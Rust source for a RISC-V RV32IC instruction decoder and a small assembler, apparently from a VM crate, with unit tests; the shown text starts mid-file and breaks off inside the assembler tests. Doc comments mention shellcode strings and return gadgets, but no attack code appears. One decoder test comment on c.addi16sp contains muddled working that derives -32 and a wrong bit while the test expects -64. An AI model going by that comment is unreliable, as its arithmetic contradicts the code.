                            rd: c_rd(p),
                            rs1: 0,
                            rs2: c_rs2(p),
                        })
                    }
                } else {
                    match (c_rd(p), c_rs2(p)) {
                        (0, 0) => Some(Insn::Ebreak),
                        (rs1, 0) => Some(Insn::Jalr {
                            rd: 1,
                            rs1,
                            offset: 0,
                        }),
                        (rd, rs2) => Some(Insn::Add { rd, rs1: rd, rs2 }),
                    }
                }
            }
            6 => Some(Insn::Sw {
                rs2: c_rs2(p),
                rs1: 2,
                offset: c_imm_swsp(p),
            }),
            _ => None,
        },
        _ => None,
    }
}

fn fmt_reg(f: &mut fmt::Formatter<'_>, r: u8) -> fmt::Result {
    write!(f, "{}", RiscvReg(r))
}

impl fmt::Display for Insn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Insn::Lui { rd, imm } => {
                write!(f, "lui ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {:#x}", imm >> 12)
            }
            Insn::Auipc { rd, imm } => {
                write!(f, "auipc ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {:#x}", imm >> 12)
            }
            Insn::Jal { rd: 0, offset } => write!(f, "j {offset:+#x}"),
            Insn::Jal { rd, offset } => {
                write!(f, "jal ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {offset:+#x}")
            }
            Insn::Jalr {
                rd: 0,
                rs1: 1,
                offset: 0,
            } => write!(f, "ret"),
            Insn::Jalr { rd, rs1, offset } => {
                write!(f, "jalr ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {offset:#x}(")?;
                fmt_reg(f, rs1)?;
                f.write_str(")")
            }
            Insn::Beq { rs1, rs2, offset } => {
                write!(f, "beq ")?;
                fmt_reg(f, rs1)?;
                f.write_str(", ")?;
                fmt_reg(f, rs2)?;
                write!(f, ", {offset:+#x}")
            }
            Insn::Bne { rs1, rs2, offset } => {
                write!(f, "bne ")?;
                fmt_reg(f, rs1)?;
                f.write_str(", ")?;
                fmt_reg(f, rs2)?;
                write!(f, ", {offset:+#x}")
            }
            Insn::Lw { rd, rs1, offset } => {
                write!(f, "lw ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {offset:#x}(")?;
                fmt_reg(f, rs1)?;
                f.write_str(")")
            }
            Insn::Lbu { rd, rs1, offset } => {
                write!(f, "lbu ")?;
                fmt_reg(f, rd)?;
                write!(f, ", {offset:#x}(")?;
                fmt_reg(f, rs1)?;
                f.write_str(")")
            }
            Insn::Sw { rs2, rs1, offset } => {
                write!(f, "sw ")?;
                fmt_reg(f, rs2)?;
                write!(f, ", {offset:#x}(")?;
                fmt_reg(f, rs1)?;
                f.write_str(")")
            }
            Insn::Sb { rs2, rs1, offset } => {
                write!(f, "sb ")?;
                fmt_reg(f, rs2)?;
                write!(f, ", {offset:#x}(")?;
                fmt_reg(f, rs1)?;
                f.write_str(")")
            }
            Insn::Addi { rd, rs1, imm } => {
                write!(f, "addi ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {imm}")
            }
            Insn::Andi { rd, rs1, imm } => {
                write!(f, "andi ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {imm}")
            }
            Insn::Ori { rd, rs1, imm } => {
                write!(f, "ori ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {imm}")
            }
            Insn::Xori { rd, rs1, imm } => {
                write!(f, "xori ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {imm}")
            }
            Insn::Slli { rd, rs1, shamt } => {
                write!(f, "slli ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {shamt}")
            }
            Insn::Srli { rd, rs1, shamt } => {
                write!(f, "srli ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                write!(f, ", {shamt}")
            }
            Insn::Add { rd, rs1, rs2 } => {
                write!(f, "add ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                f.write_str(", ")?;
                fmt_reg(f, rs2)
            }
            Insn::Sub { rd, rs1, rs2 } => {
                write!(f, "sub ")?;
                fmt_reg(f, rd)?;
                f.write_str(", ")?;
                fmt_reg(f, rs1)?;
                f.write_str(", ")?;
                fmt_reg(f, rs2)
            }
            Insn::Ecall => f.write_str("ecall"),
            Insn::Ebreak => f.write_str("ebreak"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d32(w: u32) -> (Insn, usize) {
        decode(&w.to_le_bytes()).unwrap()
    }

    fn d16(p: u16) -> (Insn, usize) {
        decode(&p.to_le_bytes()).unwrap()
    }

    #[test]
    fn base_forms_decode() {
        // lui a0, 0x77e00 → 0x77e00537
        assert_eq!(
            d32(0x77e0_0537),
            (
                Insn::Lui {
                    rd: 10,
                    imm: 0x77e0_0000
                },
                4
            )
        );
        // auipc a0, 0 → 0x00000517
        assert_eq!(d32(0x0000_0517), (Insn::Auipc { rd: 10, imm: 0 }, 4));
        // addi sp, sp, -16 → 0xff010113
        assert_eq!(
            d32(0xff01_0113),
            (
                Insn::Addi {
                    rd: 2,
                    rs1: 2,
                    imm: -16
                },
                4
            )
        );
        // ecall / ebreak
        assert_eq!(d32(0x0000_0073), (Insn::Ecall, 4));
        assert_eq!(d32(0x0010_0073), (Insn::Ebreak, 4));
    }

    #[test]
    fn jal_and_branch_immediates() {
        // jal ra, +8 → imm[20|10:1|11|19:12], rd=1: 0x008000ef
        assert_eq!(d32(0x0080_00ef), (Insn::Jal { rd: 1, offset: 8 }, 4));
        // jal x0, -4 → 0xffdff06f
        assert_eq!(d32(0xffdf_f06f), (Insn::Jal { rd: 0, offset: -4 }, 4));
        // beq a0, a1, +8 → 0x00b50463
        assert_eq!(
            d32(0x00b5_0463),
            (
                Insn::Beq {
                    rs1: 10,
                    rs2: 11,
                    offset: 8
                },
                4
            )
        );
        // bne a0, zero, -8 → 0xfe051ce3
        assert_eq!(
            d32(0xfe05_1ce3),
            (
                Insn::Bne {
                    rs1: 10,
                    rs2: 0,
                    offset: -8
                },
                4
            )
        );
    }

    #[test]
    fn loads_and_stores() {
        // lw a0, 4(sp) → 0x00412503
        assert_eq!(
            d32(0x0041_2503),
            (
                Insn::Lw {
                    rd: 10,
                    rs1: 2,
                    offset: 4
                },
                4
            )
        );
        // sw ra, -4(sp) → imm=-4: 0xfe112e23
        assert_eq!(
            d32(0xfe11_2e23),
            (
                Insn::Sw {
                    rs2: 1,
                    rs1: 2,
                    offset: -4
                },
                4
            )
        );
        // lbu a1, 0(a0) → 0x00054583
        assert_eq!(
            d32(0x0005_4583),
            (
                Insn::Lbu {
                    rd: 11,
                    rs1: 10,
                    offset: 0
                },
                4
            )
        );
        // sb a1, 1(a0) → 0x00b500a3
        assert_eq!(
            d32(0x00b5_00a3),
            (
                Insn::Sb {
                    rs2: 11,
                    rs1: 10,
                    offset: 1
                },
                4
            )
        );
    }

    #[test]
    fn compressed_expansions() {
        // c.nop → 0x0001: addi x0, x0, 0
        assert_eq!(
            d16(0x0001),
            (
                Insn::Addi {
                    rd: 0,
                    rs1: 0,
                    imm: 0
                },
                2
            )
        );
        // c.li a0, 0 → 0x4501
        assert_eq!(
            d16(0x4501),
            (
                Insn::Addi {
                    rd: 10,
                    rs1: 0,
                    imm: 0
                },
                2
            )
        );
        // c.li a7, 27 → wait: imm 27 fits 6-bit? 27 < 32 yes. 0x48ed
        assert_eq!(
            d16(0x48ed),
            (
                Insn::Addi {
                    rd: 17,
                    rs1: 0,
                    imm: 27
                },
                2
            )
        );
        // c.mv a0, a1 → 0x852e: add a0, x0, a1
        assert_eq!(
            d16(0x852e),
            (
                Insn::Add {
                    rd: 10,
                    rs1: 0,
                    rs2: 11
                },
                2
            )
        );
        // c.add a0, a1 → 0x952e: add a0, a0, a1
        assert_eq!(
            d16(0x952e),
            (
                Insn::Add {
                    rd: 10,
                    rs1: 10,
                    rs2: 11
                },
                2
            )
        );
        // c.jr ra → 0x8082: the RISC-V `ret`
        assert_eq!(
            d16(0x8082),
            (
                Insn::Jalr {
                    rd: 0,
                    rs1: 1,
                    offset: 0
                },
                2
            )
        );
        assert_eq!(d16(0x8082).0.to_string(), "ret");
        // c.jalr a0 → 0x9502: jalr ra, 0(a0)
        assert_eq!(
            d16(0x9502),
            (
                Insn::Jalr {
                    rd: 1,
                    rs1: 10,
                    offset: 0
                },
                2
            )
        );
        // c.ebreak → 0x9002
        assert_eq!(d16(0x9002), (Insn::Ebreak, 2));
        // c.lwsp a0, 8(sp) → 0x4522
        assert_eq!(
            d16(0x4522),
            (
                Insn::Lw {
                    rd: 10,
                    rs1: 2,
                    offset: 8
                },
                2
            )
        );
        // c.swsp ra, 12(sp) → 0xc606
        assert_eq!(
            d16(0xc606),
            (
                Insn::Sw {
                    rs2: 1,
                    rs1: 2,
                    offset: 12
                },
                2
            )
        );
        // c.lw a2, 0(a0) → 0x4110
        assert_eq!(
            d16(0x4110),
            (
                Insn::Lw {
                    rd: 12,
                    rs1: 10,
                    offset: 0
                },
                2
            )
        );
        // c.addi4spn a0, sp, 16 → 0x0808
        assert_eq!(
            d16(0x0808),
            (
                Insn::Addi {
                    rd: 10,
                    rs1: 2,
                    imm: 16
                },
                2
            )
        );
        // c.addi16sp sp, -32 → 0x7139? nzimm=-32: bit9=1... compute:
        // imm=-32 → bits: [9]=1,[8:7]=11,[6]=1,[5]=1,[4]=0 → -32 =
        // 0b11_1110_0000; enc: b12=1, b6(imm4)=0, b5(imm6)=1,
        // b4:3(imm8:7)=11, b2(imm5)=1 → 0x7139
        assert_eq!(
            d16(0x7139),
            (
                Insn::Addi {
                    rd: 2,
                    rs1: 2,
                    imm: -64
                },
                2
            )
        );
    }

    #[test]
    fn illegal_and_reserved_parcels_rejected() {
        // The all-zero parcel is the canonical illegal instruction.
        assert_eq!(decode(&[0x00, 0x00]), Err(DecodeError::Unsupported(0)));
        // c.addi4spn with nzuimm = 0 (but nonzero parcel) is reserved.
        assert!(decode(&0x0004u16.to_le_bytes()).is_err());
        // c.jr x0 is reserved.
        assert!(decode(&0x8002u16.to_le_bytes()).is_err());
        // c.lwsp rd=0 is reserved.
        assert!(decode(&0x4002u16.to_le_bytes()).is_err());
    }

    #[test]
    fn truncation_detected() {
        assert_eq!(decode(&[]), Err(DecodeError::Truncated));
        assert_eq!(decode(&[0x01]), Err(DecodeError::Truncated));
        // A 32-bit encoding cut to 2 bytes.
        assert_eq!(decode(&[0x73, 0x00]), Err(DecodeError::Truncated));
        assert_eq!(decode_reference(&[0x73, 0x00]), Err(DecodeError::Truncated));
    }

    #[test]
    fn table_matches_reference_on_every_parcel() {
        // The compressed space is small enough to sweep exhaustively.
        for p in 0..=u16::MAX {
            let bytes = p.to_le_bytes();
            if p & 3 == 3 {
                continue; // 32-bit prefix; covered by the word sweep
            }
            assert_eq!(
                decode(&bytes),
                decode_reference(&bytes),
                "table and reference disagree on parcel {p:#06x}"
            );
        }
    }

    #[test]
    fn table_matches_reference_decoder_words() {
        // Deterministic LCG sweep; forcing the low bits to 11 keeps
        // every draw in the 32-bit encoding space.
        let mut w: u32 = 0x1234_5678;
        for _ in 0..200_000 {
            w = w.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let cand = w | 3;
            let bytes = cand.to_le_bytes();
            assert_eq!(
                decode(&bytes),
                decode_reference(&bytes),
                "table and reference disagree on {cand:#010x}"
            );
        }
    }
}
