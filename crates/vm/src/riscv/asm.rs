//! A small RV32IC assembler emitting the decoder's subset.

/// Byte-buffer assembler for RV32IC (little-endian parcels; `c_*`
/// methods emit 2-byte compressed encodings, everything else 4-byte
/// base words).
///
/// ```
/// use cml_vm::riscv::{decode, Asm, Insn};
///
/// let code = Asm::new().c_ret().finish();
/// assert_eq!(
///     decode(&code).unwrap(),
///     (Insn::Jalr { rd: 0, rs1: 1, offset: 0 }, 2)
/// );
/// ```
#[derive(Debug, Default, Clone)]
pub struct Asm {
    bytes: Vec<u8>,
}

fn reg(r: u8) -> u32 {
    assert!(r < 32, "register number out of range");
    r as u32
}

/// Compressed register (x8..x15) → 3-bit field.
fn creg(r: u8) -> u32 {
    assert!((8..16).contains(&r), "register not addressable compressed");
    (r - 8) as u32
}

fn i_type(imm: i32, rs1: u8, funct3: u32, rd: u8, opcode: u32) -> u32 {
    assert!((-2048..=2047).contains(&imm), "I-immediate out of range");
    ((imm as u32) & 0xFFF) << 20 | reg(rs1) << 15 | funct3 << 12 | reg(rd) << 7 | opcode
}

fn s_type(imm: i32, rs2: u8, rs1: u8, funct3: u32) -> u32 {
    assert!((-2048..=2047).contains(&imm), "S-immediate out of range");
    let imm = imm as u32;
    ((imm >> 5) & 0x7F) << 25
        | reg(rs2) << 20
        | reg(rs1) << 15
        | funct3 << 12
        | (imm & 0x1F) << 7
        | 0x23
}

fn b_type(offset: i32, rs2: u8, rs1: u8, funct3: u32) -> u32 {
    assert!(offset % 2 == 0, "branch offset must be halfword-aligned");
    assert!(
        (-4096..=4094).contains(&offset),
        "branch offset out of range"
    );
    let o = offset as u32;
    ((o >> 12) & 1) << 31
        | ((o >> 5) & 0x3F) << 25
        | reg(rs2) << 20
        | reg(rs1) << 15
        | funct3 << 12
        | ((o >> 1) & 0xF) << 8
        | ((o >> 11) & 1) << 7
        | 0x63
}

fn u_type(imm: u32, rd: u8, opcode: u32) -> u32 {
    assert!(imm & 0xFFF == 0, "U-immediate must have low 12 bits clear");
    imm | reg(rd) << 7 | opcode
}

fn r_type(funct7: u32, rs2: u8, rs1: u8, funct3: u32, rd: u8) -> u32 {
    funct7 << 25 | reg(rs2) << 20 | reg(rs1) << 15 | funct3 << 12 | reg(rd) << 7 | 0x33
}

/// `c.j`/`c.jal` offset scatter (imm[11|4|9:8|10|6|7|3:1|5]).
fn cj_imm(offset: i32) -> u16 {
    assert!(offset % 2 == 0, "jump offset must be halfword-aligned");
    assert!((-2048..=2046).contains(&offset), "jump offset out of range");
    let o = offset as u32;
    (((o >> 11) & 1) << 12
        | ((o >> 4) & 1) << 11
        | ((o >> 8) & 3) << 9
        | ((o >> 10) & 1) << 8
        | ((o >> 6) & 1) << 7
        | ((o >> 7) & 1) << 6
        | ((o >> 1) & 7) << 3
        | ((o >> 5) & 1) << 2) as u16
}

/// `c.beqz`/`c.bnez` offset scatter (imm[8|4:3|7:6|2:1|5]).
fn cb_imm(offset: i32) -> u16 {
    assert!(offset % 2 == 0, "branch offset must be halfword-aligned");
    assert!((-256..=254).contains(&offset), "branch offset out of range");
    let o = offset as u32;
    (((o >> 8) & 1) << 12
        | ((o >> 3) & 3) << 10
        | ((o >> 6) & 3) << 5
        | ((o >> 1) & 3) << 3
        | ((o >> 5) & 1) << 2) as u16
}

fn c_imm6(imm: i32) -> u16 {
    assert!((-32..=31).contains(&imm), "6-bit immediate out of range");
    let i = imm as u32;
    (((i >> 5) & 1) << 12 | (i & 0x1F) << 2) as u16
}

impl Asm {
    /// Starts an empty buffer.
    pub fn new() -> Self {
        Asm::default()
    }

    /// Bytes emitted so far.
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// Whether nothing has been emitted.
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Consumes the assembler, returning the code bytes.
    pub fn finish(self) -> Vec<u8> {
        self.bytes
    }

    /// Appends one raw 32-bit word.
    pub fn word(mut self, w: u32) -> Self {
        self.bytes.extend_from_slice(&w.to_le_bytes());
        self
    }

    /// Appends one raw 16-bit parcel.
    pub fn half(mut self, p: u16) -> Self {
        self.bytes.extend_from_slice(&p.to_le_bytes());
        self
    }

    /// Appends raw bytes (data embedded in code, e.g. shellcode strings).
    pub fn raw(mut self, bytes: &[u8]) -> Self {
        self.bytes.extend_from_slice(bytes);
        self
    }

    /// `lui rd, imm` — `imm` is the full value (low 12 bits must be 0).
    ///
    /// # Panics
    ///
    /// Panics if the low 12 bits of `imm` are set.
    pub fn lui(self, rd: u8, imm: u32) -> Self {
        self.word(u_type(imm, rd, 0x37))
    }

    /// `auipc rd, imm` — `imm` is the full addend (low 12 bits must be 0).
    ///
    /// # Panics
    ///
    /// Panics if the low 12 bits of `imm` are set.
    pub fn auipc(self, rd: u8, imm: u32) -> Self {
        self.word(u_type(imm, rd, 0x17))
    }

    /// `jal rd, offset` (byte offset from this instruction).
    ///
    /// # Panics
    ///
    /// Panics if the offset is odd or outside ±1 MiB.
    pub fn jal(self, rd: u8, offset: i32) -> Self {
        assert!(offset % 2 == 0, "jump offset must be halfword-aligned");
        assert!(
            (-(1 << 20)..(1 << 20)).contains(&offset),
            "jump offset out of range"
        );
        let o = offset as u32;
        self.word(
            ((o >> 20) & 1) << 31
                | ((o >> 1) & 0x3FF) << 21
                | ((o >> 11) & 1) << 20
                | ((o >> 12) & 0xFF) << 12
                | reg(rd) << 7
                | 0x6F,
        )
    }

    /// `jalr rd, offset(rs1)`.
    ///
    /// # Panics
    ///
    /// Panics if the offset exceeds 12 signed bits.
    pub fn jalr(self, rd: u8, rs1: u8, offset: i32) -> Self {
        self.word(i_type(offset, rs1, 0, rd, 0x67))
    }

    /// `beq rs1, rs2, offset`.
    ///
    /// # Panics
    ///
    /// Panics if the offset is odd or out of the 13-bit range.
    pub fn beq(self, rs1: u8, rs2: u8, offset: i32) -> Self {
        self.word(b_type(offset, rs2, rs1, 0))
    }

    /// `bne rs1, rs2, offset`.
    ///
    /// # Panics
    ///
    /// Panics if the offset is odd or out of the 13-bit range.
    pub fn bne(self, rs1: u8, rs2: u8, offset: i32) -> Self {
        self.word(b_type(offset, rs2, rs1, 1))
    }

    /// `lw rd, offset(rs1)`.
    ///
    /// # Panics
    ///
    /// Panics if the offset exceeds 12 signed bits.
    pub fn lw(self, rd: u8, rs1: u8, offset: i32) -> Self {
        self.word(i_type(offset, rs1, 2, rd, 0x03))
    }

    /// `lbu rd, offset(rs1)`.
    ///
    /// # Panics
    ///
    /// Panics if the offset exceeds 12 signed bits.
    pub fn lbu(self, rd: u8, rs1: u8, offset: i32) -> Self {
        self.word(i_type(offset, rs1, 4, rd, 0x03))
    }

    /// `sw rs2, offset(rs1)`.
    ///
    /// # Panics
    ///
    /// Panics if the offset exceeds 12 signed bits.
    pub fn sw(self, rs2: u8, rs1: u8, offset: i32) -> Self {
        self.word(s_type(offset, rs2, rs1, 2))
    }

    /// `sb rs2, offset(rs1)`.
    ///
    /// # Panics
    ///
    /// Panics if the offset exceeds 12 signed bits.
    pub fn sb(self, rs2: u8, rs1: u8, offset: i32) -> Self {
        self.word(s_type(offset, rs2, rs1, 0))
    }

    /// `addi rd, rs1, imm` (also `li`/`mv`/`nop` with the right operands).
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 12 signed bits.
    pub fn addi(self, rd: u8, rs1: u8, imm: i32) -> Self {
        self.word(i_type(imm, rs1, 0, rd, 0x13))
    }

    /// `andi rd, rs1, imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 12 signed bits.
    pub fn andi(self, rd: u8, rs1: u8, imm: i32) -> Self {
        self.word(i_type(imm, rs1, 7, rd, 0x13))
    }

    /// `ori rd, rs1, imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 12 signed bits.
    pub fn ori(self, rd: u8, rs1: u8, imm: i32) -> Self {
        self.word(i_type(imm, rs1, 6, rd, 0x13))
    }

    /// `xori rd, rs1, imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 12 signed bits.
    pub fn xori(self, rd: u8, rs1: u8, imm: i32) -> Self {
        self.word(i_type(imm, rs1, 4, rd, 0x13))
    }

    /// `slli rd, rs1, shamt`.
    ///
    /// # Panics
    ///
    /// Panics if `shamt` exceeds 31.
    pub fn slli(self, rd: u8, rs1: u8, shamt: u8) -> Self {
        assert!(shamt < 32, "shift amount out of range");
        self.word(i_type(shamt as i32, rs1, 1, rd, 0x13))
    }

    /// `srli rd, rs1, shamt`.
    ///
    /// # Panics
    ///
    /// Panics if `shamt` exceeds 31.
    pub fn srli(self, rd: u8, rs1: u8, shamt: u8) -> Self {
        assert!(shamt < 32, "shift amount out of range");
        self.word(i_type(shamt as i32, rs1, 5, rd, 0x13))
    }

    /// `add rd, rs1, rs2`.
    pub fn add(self, rd: u8, rs1: u8, rs2: u8) -> Self {
        self.word(r_type(0x00, rs2, rs1, 0, rd))
    }

    /// `sub rd, rs1, rs2`.
    pub fn sub(self, rd: u8, rs1: u8, rs2: u8) -> Self {
        self.word(r_type(0x20, rs2, rs1, 0, rd))
    }

    /// `ecall`.
    pub fn ecall(self) -> Self {
        self.word(0x0000_0073)
    }

    /// `ebreak` (4-byte form).
    pub fn ebreak(self) -> Self {
        self.word(0x0010_0073)
    }

    // ---- compressed encodings ----

    /// `c.nop`.
    pub fn c_nop(self) -> Self {
        self.half(0x0001)
    }

    /// `c.addi rd, imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 6 signed bits.
    pub fn c_addi(self, rd: u8, imm: i32) -> Self {
        self.half(0x0001 | (reg(rd) << 7) as u16 | c_imm6(imm))
    }

    /// `c.li rd, imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` exceeds 6 signed bits.
    pub fn c_li(self, rd: u8, imm: i32) -> Self {
        self.half(0x4001 | (reg(rd) << 7) as u16 | c_imm6(imm))
    }

    /// `c.lui rd, imm` — `imm` is the full value (low 12 bits zero,
    /// upper part must fit 6 signed bits; `rd` must not be x0/x2).
    ///
    /// # Panics
    ///
    /// Panics on unencodable operands.
    pub fn c_lui(self, rd: u8, imm: u32) -> Self {
        assert!(
            imm & 0xFFF == 0,
            "c.lui immediate must have low 12 bits clear"
        );
        assert!(rd != 0 && rd != 2, "c.lui cannot target x0/x2");
        let hi = (imm as i32) >> 12;
        assert!(
            (-32..=31).contains(&hi) && hi != 0,
            "c.lui immediate out of range"
        );
        self.half(0x6001 | (reg(rd) << 7) as u16 | c_imm6(hi))
    }

    /// `c.addi16sp imm` (`addi sp, sp, imm`, multiples of 16).
    ///
    /// # Panics
    ///
    /// Panics if `imm` is 0, unaligned, or out of ±512.
    pub fn c_addi16sp(self, imm: i32) -> Self {
        assert!(
            imm != 0 && imm % 16 == 0,
            "c.addi16sp immediate unencodable"
        );
        assert!(
            (-512..=496).contains(&imm),
            "c.addi16sp immediate out of range"
        );
        let i = imm as u32;
        self.half(
            0x6101
                | ((((i >> 9) & 1) << 12
                    | ((i >> 4) & 1) << 6
                    | ((i >> 6) & 1) << 5
                    | ((i >> 7) & 3) << 3
                    | ((i >> 5) & 1) << 2) as u16),
        )
    }

    /// `c.addi4spn rd', imm` (`addi rd', sp, imm`, nonzero multiples of 4).
    ///
    /// # Panics
    ///
    /// Panics on unencodable operands.
    pub fn c_addi4spn(self, rd: u8, imm: i32) -> Self {
        assert!(
            imm > 0 && imm % 4 == 0 && imm < 1024,
            "c.addi4spn immediate unencodable"
        );
        let i = imm as u32;
        self.half(
            (((i >> 4) & 3) << 11
                | ((i >> 6) & 0xF) << 7
                | ((i >> 2) & 1) << 6
                | ((i >> 3) & 1) << 5
                | creg(rd) << 2) as u16,
        )
    }

    /// `c.mv rd, rs2` (`add rd, x0, rs2`; both registers nonzero).
    ///
    /// # Panics
    ///
    /// Panics if either register is x0.
    pub fn c_mv(self, rd: u8, rs2: u8) -> Self {
        assert!(rd != 0 && rs2 != 0, "c.mv operands must be nonzero");
        self.half(0x8002 | (reg(rd) << 7) as u16 | (reg(rs2) << 2) as u16)
    }

    /// `c.add rd, rs2` (`add rd, rd, rs2`; both registers nonzero).
    ///
    /// # Panics
    ///
    /// Panics if either register is x0.
    pub fn c_add(self, rd: u8, rs2: u8) -> Self {
        assert!(rd != 0 && rs2 != 0, "c.add operands must be nonzero");
        self.half(0x9002 | (reg(rd) << 7) as u16 | (reg(rs2) << 2) as u16)
    }

    /// `c.jr rs1` (`jalr x0, 0(rs1)`; `rs1` nonzero).
    ///
    /// # Panics
    ///
    /// Panics if `rs1` is x0.
    pub fn c_jr(self, rs1: u8) -> Self {
        assert!(rs1 != 0, "c.jr rs1 must be nonzero");
        self.half(0x8002 | (reg(rs1) << 7) as u16)
    }

    /// `ret` — `c.jr ra`, the 2-byte return every RISC-V function ends
    /// with (and every RVC gadget hunts for).
    pub fn c_ret(self) -> Self {
        self.c_jr(1)
    }

    /// `c.jalr rs1` (`jalr ra, 0(rs1)`; `rs1` nonzero).
    ///
    /// # Panics
    ///
    /// Panics if `rs1` is x0.
    pub fn c_jalr(self, rs1: u8) -> Self {
        assert!(rs1 != 0, "c.jalr rs1 must be nonzero");
        self.half(0x9002 | (reg(rs1) << 7) as u16)
    }

    /// `c.ebreak`.
    pub fn c_ebreak(self) -> Self {
        self.half(0x9002)
    }

    /// `c.j offset` (`jal x0, offset`).
    ///
    /// # Panics
    ///
    /// Panics if the offset is odd or out of ±2 KiB.
    pub fn c_j(self, offset: i32) -> Self {
        self.half(0xA001 | cj_imm(offset))
    }

    /// `c.beqz rs1', offset`.
    ///
    /// # Panics
    ///
    /// Panics on a non-compressed register or out-of-range offset.
    pub fn c_beqz(self, rs1: u8, offset: i32) -> Self {
        self.half(0xC001 | (creg(rs1) << 7) as u16 | cb_imm(offset))
    }

    /// `c.bnez rs1', offset`.
    ///
    /// # Panics
    ///
    /// Panics on a non-compressed register or out-of-range offset.
    pub fn c_bnez(self, rs1: u8, offset: i32) -> Self {
        self.half(0xE001 | (creg(rs1) << 7) as u16 | cb_imm(offset))
    }

    /// `c.slli rd, shamt`.
    ///
    /// # Panics
    ///
    /// Panics if `shamt` exceeds 31.
    pub fn c_slli(self, rd: u8, shamt: u8) -> Self {
        assert!(shamt < 32, "shift amount out of range");
        self.half(0x0002 | (reg(rd) << 7) as u16 | ((shamt as u16) << 2))
    }

    /// `c.lwsp rd, offset` (`lw rd, offset(sp)`; `rd` nonzero).
    ///
    /// # Panics
    ///
    /// Panics on unencodable operands.
    pub fn c_lwsp(self, rd: u8, offset: i32) -> Self {
        assert!(rd != 0, "c.lwsp rd must be nonzero");
        assert!(
            offset >= 0 && offset % 4 == 0 && offset < 256,
            "c.lwsp offset unencodable"
        );
        let o = offset as u32;
        self.half(
            0x4002
                | (reg(rd) << 7) as u16
                | ((((o >> 5) & 1) << 12 | ((o >> 2) & 7) << 4 | ((o >> 6) & 3) << 2) as u16),
        )
    }

    /// `c.swsp rs2, offset` (`sw rs2, offset(sp)`).
    ///
    /// # Panics
    ///
    /// Panics on an unencodable offset.
    pub fn c_swsp(self, rs2: u8, offset: i32) -> Self {
        assert!(
            offset >= 0 && offset % 4 == 0 && offset < 256,
            "c.swsp offset unencodable"
        );
        let o = offset as u32;
        self.half(
            0xC002
                | ((((o >> 2) & 0xF) << 9 | ((o >> 6) & 3) << 7) as u16)
                | (reg(rs2) << 2) as u16,
        )
    }

    /// `c.lw rd', offset(rs1')`.
    ///
    /// # Panics
    ///
    /// Panics on unencodable operands.
    pub fn c_lw(self, rd: u8, rs1: u8, offset: i32) -> Self {
        assert!(
            offset >= 0 && offset % 4 == 0 && offset < 128,
            "c.lw offset unencodable"
        );
        let o = offset as u32;
        self.half(
            0x4000
                | ((((o >> 3) & 7) << 10 | ((o >> 2) & 1) << 6 | ((o >> 6) & 1) << 5) as u16)
                | (creg(rs1) << 7) as u16
                | (creg(rd) << 2) as u16,
        )
    }

    /// `c.sw rs2', offset(rs1')`.
    ///
    /// # Panics
    ///
    /// Panics on unencodable operands.
    pub fn c_sw(self, rs2: u8, rs1: u8, offset: i32) -> Self {
        assert!(
            offset >= 0 && offset % 4 == 0 && offset < 128,
            "c.sw offset unencodable"
        );
        let o = offset as u32;
        self.half(
            0xC000
                | ((((o >> 3) & 7) << 10 | ((o >> 2) & 1) << 6 | ((o >> 6) & 1) << 5) as u16)
                | (creg(rs1) << 7) as u16
                | (creg(rs2) << 2) as u16,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::riscv::{decode, Insn};

    fn roundtrip(bytes: &[u8], expected: Insn, len: usize) {
        let (got, n) = decode(bytes).unwrap_or_else(|e| panic!("{e}: {bytes:02x?}"));
        assert_eq!(got, expected);
        assert_eq!(n, len);
    }

    #[test]
    fn base_roundtrip() {
        roundtrip(
            &Asm::new().lui(10, 0x77e0_0000).finish(),
            Insn::Lui {
                rd: 10,
                imm: 0x77e0_0000,
            },
            4,
        );
        roundtrip(
            &Asm::new().auipc(10, 0x1000).finish(),
            Insn::Auipc {
                rd: 10,
                imm: 0x1000,
            },
            4,
        );
        roundtrip(
            &Asm::new().jal(1, -16).finish(),
            Insn::Jal { rd: 1, offset: -16 },
            4,
        );
        roundtrip(
            &Asm::new().jalr(0, 1, 0).finish(),
            Insn::Jalr {
                rd: 0,
                rs1: 1,
                offset: 0,
            },
            4,
        );
        roundtrip(
            &Asm::new().beq(10, 11, 64).finish(),
            Insn::Beq {
                rs1: 10,
                rs2: 11,
                offset: 64,
            },
            4,
        );
        roundtrip(
            &Asm::new().bne(8, 0, -64).finish(),
            Insn::Bne {
                rs1: 8,
                rs2: 0,
                offset: -64,
            },
            4,
        );
        roundtrip(
            &Asm::new().lw(10, 2, -4).finish(),
            Insn::Lw {
                rd: 10,
                rs1: 2,
                offset: -4,
            },
            4,
        );
        roundtrip(
            &Asm::new().lbu(11, 10, 3).finish(),
            Insn::Lbu {
                rd: 11,
                rs1: 10,
                offset: 3,
            },
            4,
        );
        roundtrip(
            &Asm::new().sw(1, 2, 12).finish(),
            Insn::Sw {
                rs2: 1,
                rs1: 2,
                offset: 12,
            },
            4,
        );
        roundtrip(
